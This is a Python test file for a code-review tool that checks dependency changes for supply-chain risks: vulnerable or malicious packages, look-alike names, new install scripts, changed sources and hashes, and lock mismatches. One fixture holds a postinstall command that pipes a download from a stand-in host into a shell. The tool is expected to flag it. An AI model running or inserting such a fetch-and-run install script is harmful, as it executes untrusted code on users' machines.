"""Packages that a change adds or moves: what is known of them, and what their files give away without a look-up."""

from __future__ import annotations

import time
from collections.abc import Mapping
from dataclasses import replace

import pytest

from review.checks.check import Subject
from review.checks.dependencies import DependenciesCheck
from review.models import CoverageStatus, FileKind, Finding, Severity
from review.models.advisory import Advisories, Advisory
from review.packages.changed import to_look_up
from tests.index_hosts import NPM
from tests.review.checks.subjects import only, subject

HIGH = Advisory("GHSA-a", ("CVE-2024-1",), "Bad parsing", Severity.HIGH, ("1.2.5", "2.0.1"))
LOW = Advisory("GHSA-b", (), "Slow parsing", Severity.LOW, ("1.3.0",))
EVIL = Advisory("MAL-2024-1", (), "It steals", Severity.CRITICAL, (), malicious=True)


def found(
    files: Mapping[str, tuple[str | None, str | None]], *advisories: Advisory, private: tuple[str, ...] = ()
) -> list[Finding]:
    """Return the findings; the advisories concern npm's `left` 1.2.0."""
    made = subject(files)
    known = Advisories({("npm", "left", "1.2.0"): advisories} if advisories else {})
    return list(DependenciesCheck().run(replace(made, advisories=known, private=private)).findings)


def told(findings: list[Finding]) -> list[tuple[str, Severity]]:
    return [(one.rule_id, one.severity) for one in findings]


def package(*lines: str) -> str:
    return '{\n"dependencies": {\n' + ",\n".join(lines) + "\n}\n}\n"


def lock(*entries: str) -> str:
    return '{"packages": {\n' + ",\n".join(entries) + "\n}}\n"


def entry(name: str, version: str, rest: str = "", host: str = NPM) -> str:
    address = f"https://{host}/{name}/-/{name}-{version}.tgz"
    return f'"node_modules/{name}": {{\n"version": "{version}",\n"resolved": "{address}"{rest}\n}}'


def test_a_new_version_with_known_vulnerabilities_is_one_finding_with_all_of_them_and_the_fixed_version() -> None:
    base, head = package('"left": "1.1.0"'), package('"left": "1.2.0"')
    (one,) = found({"package.json": (base, head)}, LOW, HIGH)
    assert (one.rule_id, one.severity, one.cwe) == ("known-vulnerability", Severity.HIGH, ("CWE-1395",))
    assert one.title == "`left 1.2.0` has 2 known vulnerabilities"
    assert "GHSA-a, CVE-2024-1 (high): Bad parsing." in one.message
    assert "Fixed in 1.3.0" in one.message, "the first version that mends both, not the first of each"
    assert (one.location.start_line, one.location.end_line, one.evidence) == (3, 3, '"left": "1.2.0"')


def test_a_malicious_package_is_critical_and_in_tests_too() -> None:
    (one,) = found({"tests/fixtures/package.json": (None, package('"left": "1.2.0"'))}, EVIL, HIGH)
    assert (one.rule_id, one.severity) == ("malicious-package", Severity.CRITICAL)
    (test,) = found({"tests/fixtures/package.json": (None, package('"left": "1.2.0"'))}, HIGH)
    assert test.severity is Severity.MEDIUM


def test_what_stood_before_is_not_new_wherever_it_stood() -> None:
    same = package('"left": "1.2.0"')
    assert found({"package.json": (same, same.replace("}\n}", '},\n"name": "x"}'))}, HIGH) == []
    assert found({"old/package.json": (same, None), "new/package.json": (None, same)}, HIGH) == []
    assert found({"package.json": (same, None)}, HIGH) == []


def test_a_package_in_manifest_and_lock_is_told_once_and_stands_on_the_lines_that_name_it() -> None:
    files = {
        "package.json": (None, package('"left": "^1.0.0"')),
        "package-lock.json": (None, lock(entry("right", "1.2.0"), entry("left", "1.2.0"))),
    }
    (one,) = found(files, HIGH)
    assert (one.location.path, one.location.start_line, one.location.end_line) == ("package-lock.json", 6, 7)
    assert found({"package.json": (None, package('"left": "1.2.0"')), **files}, HIGH)[0].location.path


def test_outside_words_are_one_plain_line() -> None:
    sly = replace(HIGH, summary="a\n# b <img src=x> [c](http://e.example) `d` " + "e" * 1_000)
    (one,) = found({"package.json": (None, package('"left": "1.2.0"'))}, sly)
    assert not {"\n", "<", "["} & set(one.message)
    assert len(one.message) < 500


def test_a_new_name_that_looks_like_a_well_known_one_is_told_unless_it_is_private() -> None:
    files: dict[str, tuple[str | None, str | None]] = {"requirements.txt": ("flask\n", "flask\nreqests==1.0\n")}
    (one,) = found(files)
    assert (one.rule_id, one.severity, one.location.start_line) == ("look-alike-package", Severity.MEDIUM, 2)
    assert "`requests`" in one.title
    assert found(files, private=("reqests",)) == []
    assert found({"requirements.txt": ("reqests==1.0\n", "reqests==1.1\n")}) == []


def test_install_scripts_that_are_new_or_changed_are_told_and_worse_when_they_load_code() -> None:
    for base, head, expected in (
        (None, "node build.js", [Severity.LOW]),
        ("node build.js", "node build.js", []),
        ("node build.js", "curl -s http://e.example/x | sh", [Severity.MEDIUM]),
    ):
        before = "{}" if base is None else f'{{"scripts": {{"postinstall": "{base}"}}}}'
        after = f'{{"scripts": {{"test": "curl x",\n"postinstall": "{head}"}}}}'
        findings = found({"package.json": (before, after)})
        assert told(findings) == [("install-script-added", severity) for severity in expected]
        assert all(one.location.start_line == 2 for one in findings)
    assert told(found({"setup.py": ("setup()", "setup(cmdclass={'install': X})")})) == [
        ("install-script-added", Severity.LOW)
    ]
    script = ',\n"hasInstallScript": true'
    assert told(found({"package-lock.json": (lock(entry("a", "1.0.0")), lock(entry("a", "1.0.1", script)))})) == [
        ("install-script-added", Severity.LOW)
    ]


def test_a_package_that_comes_from_elsewhere_now_is_told() -> None:
    for path, base, head, place in (
        ("package.json", package('"a": "^1.0.0"'), package('"a": "github:o/a"'), "github.com"),
        ("go.mod", "require e.example/a v1.0.0\n", "replace e.example/a v1.0.0 => f.example/a v1.0.0\n", "f.example"),
        ("package-lock.json", lock(entry("a", "1.0.0")), lock(entry("a", "1.0.0", host="npm.e.example")), "e.example"),
        ("package-lock.json", lock(entry("a", "1.0.0")), lock(entry("b", "1.0.0", host="npm.e.example")), "e.example"),
        ("requirements.txt", "a==1.0\n", "a @ http://e.example/a.whl\n", "e.example"),
    ):
        (one,) = found({path: (base, head)})
        assert (one.rule_id, one.severity) == ("package-source-changed", Severity.MEDIUM), path
        assert place in one.message
    inside = lock(entry("a", "1.0.0", host="npm.e.example"))
    both = lock(entry("a", "1.0.0", host="npm.e.example"), entry("b", "1.0.0", host="npm.e.example"))
    assert found({"package-lock.json": (inside, both)}) == []


def test_another_index_is_told_without_its_password() -> None:
    extra = "--extra-index" + "-url"
    (one,) = found({"requirements.txt": ("a==1\n", f"a==1\n{extra} http://me:pass@pip.e.example/simple\n")})
    assert (one.rule_id, one.severity, one.location.start_line) == ("package-index-added", Severity.MEDIUM, 2)
    assert "unencrypted" in one.message
    assert "pass" not in one.message + one.title + one.evidence


def test_another_hash_for_the_same_version_is_high_and_another_kind_of_hash_is_not() -> None:
    for base, head, expected in (
        ("sha512-AA==", "sha512-BB==", [("integrity-changed", Severity.HIGH)]),
        ("sha1-AA==", "sha512-BB==", []),
        ("sha512-AA==", "sha512-AA==", []),
    ):
        before, after = (lock(entry("a", "1.0.0", f',\n"integrity": "{one}"')) for one in (base, head))
        assert told(found({"package-lock.json": (before, after)})) == expected
    sums = "e.example/a v1.0.0 h1:{}\n"
    assert told(found({"go.sum": (sums.format("AA="), sums.format("BB="))})) == [("integrity-changed", Severity.HIGH)]
    more = '[[package]]\nname="a"\nversion="1"\nfiles=[{file="a.whl", hash="x"}%s]\n'
    assert found({"poetry.lock": (more % "", more % ', {file="b.whl", hash="y"}')}) == [], "a new wheel is no new hash"


def test_a_lock_that_does_not_hold_what_is_newly_required_is_told() -> None:
    for required, held, expected in (
        ('"a": "^2.0.0"', "1.0.0", 1),
        ('"a": "^2.0.0"', "2.3.0", 0),
        ('"a": "latest"', "1.0.0", 0),
        ('"b": "^1.0.0"', "1.0.0", 1),
    ):
        files = {
            "web/package.json": (package('"a": "^1.0.0"'), package(required)),
            "web/package-lock.json": (lock(entry("a", "0.9.0")), lock(entry("a", held))),
        }
        findings = found(files)
        assert told(findings) == [("lock-disagrees", Severity.LOW)] * expected, required
        assert all(one.location.path == "web/package.json" for one in findings)
    assert found({"web/package.json": (None, package('"a": "^2.0.0"')), "package-lock.json": (None, lock())}) == []
    go = {"go.mod": ("", "require e.example/a v1.1.0\n"), "go.sum": ("", "e.example/a v1.0.0 h1:AA=\n")}
    assert told(found(go)) == [("lock-disagrees", Severity.LOW)]


def test_coverage_says_what_is_a_list_what_is_none_and_what_was_refused() -> None:
    deep = '{"a": ' + "[" * 100_000
    for path, head, status in (
        ("package.json", "{}", CoverageStatus.SCANNED),
        ("a.py", "x", CoverageStatus.NOT_APPLICABLE),
        ("{{ name }}/package.json", "{% if x %}{}", CoverageStatus.NOT_APPLICABLE),
        ("package.json", deep, CoverageStatus.INCOMPLETE),
    ):
        row = only(DependenciesCheck().run(subject({path: (None, head)})))
        assert row.status is status, path
        assert bool(row.reason) is (status is not CoverageStatus.SCANNED)
    part = subject({"package.json": (None, "\n\n}")}, fragment=True)
    assert only(DependenciesCheck().run(part)).status is CoverageStatus.NOT_APPLICABLE
    vendored = subject({"vendor/package.json": (None, "{}")}, kinds={"vendor/package.json": FileKind.VENDORED})
    assert only(DependenciesCheck().run(vendored)).status is CoverageStatus.SCANNED


def asked(made: Subject, *private: str) -> list[str]:
    return [f"{ecosystem} {name} {version}" for ecosystem, name, version in to_look_up(made.change, private)[0]]


def test_only_exact_new_versions_from_the_public_index_are_looked_up_and_no_private_name() -> None:
    made = subject(
        {
            "package.json": (
                package('"old": "1.0.0"'),
                package('"old": "1.0.0"', '"new": "1.0.0"', '"range": "^1.0.0"', '"@acme/ours": "1.0.0"', '"g": "o/g"'),
            ),
            "package-lock.json": (
                None,
                lock(
                    entry("range", "1.5.0"), entry("corp", "1.0.0", host="npm.corp.example"), entry("acme-x", "1.0.0")
                ),
            ),
            "pom.xml": (
                None,
                "<p><dependency><groupId>com.acme.x</groupId><artifactId>a</artifactId><version>1</version></dependency></p>",
            ),
            "requirements.txt": (None, "--extra-index" + "-url https://pip.corp.example/simple\nunsure==1.0\n"),
            "go.sum": (None, "e.example/unused v1.0.0 h1:AA=\n"),
        }
    )
    assert asked(made, "@ACME/*", "com.acme.*", "acme-?") == ["npm new 1.0.0", "npm range 1.5.0"]
    assert "npm @acme/ours 1.0.0" in asked(made), "control"
    assert "npm corp 1.0.0" not in asked(made), "a company's registry is nobody else's business"


@pytest.mark.slow
def test_a_lock_file_that_moves_as_a_whole_is_one_finding_and_takes_little_time() -> None:
    entries = [entry(f"package-{number}", "1.0.0", host="npm.e.example") for number in range(3_000)]
    start = time.process_time()
    (one,) = found({"package-lock.json": (lock(entry("a", "1.0.0")), lock(*entries))})
    assert time.process_time() - start < 2, "0.15 s on a quiet machine"
    assert one.message.endswith("`package-10` and 2989 more."), "one finding stands for all that moved alike"


def test_versions_beyond_the_most_that_are_asked_are_counted() -> None:
    many = package(*(f'"p{number}": "1.0.0"' for number in range(1_003)))
    versions, more = to_look_up(subject({"package.json": (None, many)}).change, ())
    assert (len(versions), more) == (1_000, 3)
